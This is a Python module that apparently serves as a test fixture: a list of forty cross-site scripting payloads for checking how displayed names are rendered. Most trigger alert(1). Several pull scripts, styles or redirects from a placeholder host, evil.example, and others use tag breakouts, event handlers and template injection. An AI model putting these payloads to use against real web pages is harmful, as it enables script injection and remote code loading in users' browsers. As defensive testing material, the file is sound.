"""Texts that try to be more than text, for every place that shows a name."""

#: Forty ways to have a script run where text was meant.
PAYLOADS = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<script>alert(1)<!--", "<!--<script>alert(1)", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext></p><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<form action=javascript:alert(1)><button>x",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<style>@import'//evil.example/x'</style>", "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}", "\u2028alert(1)//\u202e<script>alert(1)</script>",
]  # fmt: skip
